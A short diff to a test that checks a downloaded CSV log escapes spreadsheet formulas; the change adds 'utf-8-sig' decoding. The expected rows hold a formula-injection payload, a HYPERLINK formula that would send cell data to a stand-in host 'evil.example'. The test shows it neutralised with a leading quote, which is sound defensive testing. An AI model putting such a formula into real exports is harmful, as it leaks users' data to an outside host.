@@ -47,7 +47,7 @@ def test_the_downloaded_log_never_hands_a_spreadsheet_a_formula():
         _logged("\tcmd", found=None),
         _logged("How do I rebase?", found=True),
     ])
-    rows = list(csv.reader(io.StringIO(log.csv.decode())))
+    rows = list(csv.reader(io.StringIO(log.csv.decode("utf-8-sig"))))
     assert rows[0] == list(log.table.columns)
     questions = [row[2] for row in rows[1:]]
     assert questions == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1 or -1?", "'-2+3", "'\tcmd",
